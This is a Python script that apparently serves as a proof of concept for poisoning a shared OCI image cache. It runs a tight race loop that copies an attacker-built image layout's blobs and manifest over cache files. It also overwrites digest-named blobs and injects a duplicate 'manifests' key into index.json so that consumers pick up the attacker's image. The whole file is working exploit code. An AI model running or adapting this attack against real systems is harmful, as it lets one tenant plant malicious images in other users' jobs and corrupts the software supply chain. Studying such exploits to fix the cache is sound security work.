"""Runs as a job's user and changes the user's own files in the image cache as soon as they appear.

image_racer.py CACHE EVIL: EVIL is an OCI layout made by poison.py. In every file of the cache that
this user may write to, blobs and manifests become those of EVIL, and an index gets a second
`manifests` that names EVIL's. Writes EVIL/ready when it has begun.
"""
import glob
import json
import os
import shutil
import sys
import time

cache, evil = sys.argv[1:3]
with open(f"{evil}/index.json", encoding="utf-8") as file:
    entry = json.load(file)["manifests"][0]
blobs = glob.glob(f"{evil}/blobs/sha256/*")
manifest = f"{evil}/blobs/{entry['digest'].replace(':', '/')}"


def spoil_index(path):
    directory = f"{os.path.dirname(path)}/blobs/sha256"
    if not os.path.isdir(directory):
        return
    for blob in blobs:
        if not os.path.exists(f"{directory}/{os.path.basename(blob)}"):
            shutil.copy(blob, directory)
    with open(path, encoding="utf-8") as file:
        text = file.read()
    if text.count('"manifests"') != 1:
        return
    index = json.loads(text)
    second = [dict(entry, annotations=one.get("annotations", {})) for one in index["manifests"]]
    with open(path + ".new", "w", encoding="utf-8") as file:
        file.write(text.rstrip()[:-1] + ',"manifests":' + json.dumps(second) + "}")
    os.rename(path + ".new", path)


def spoil_directory(path):
    directory = os.path.dirname(path)
    for blob in blobs:
        shutil.copy(blob, directory)
    for name in os.listdir(directory):
        if len(name) == 64:
            shutil.copy(blobs[0], f"{directory}/{name}")
    shutil.copy(manifest, path)


def attempt(spoil, path):
    try:
        spoil(path)
    except (OSError, ValueError, KeyError):
        pass  # the file is gone or incomplete; the next round tries again


with open(f"{evil}/ready", "w", encoding="utf-8"):
    pass
while True:
    attempt(spoil_index, f"{cache}/users/{os.getuid()}/layout/index.json")
    for slot in range(4):
        attempt(spoil_directory, f"{cache}/slots/{slot}/incoming/image/manifest.json")
    time.sleep(0)
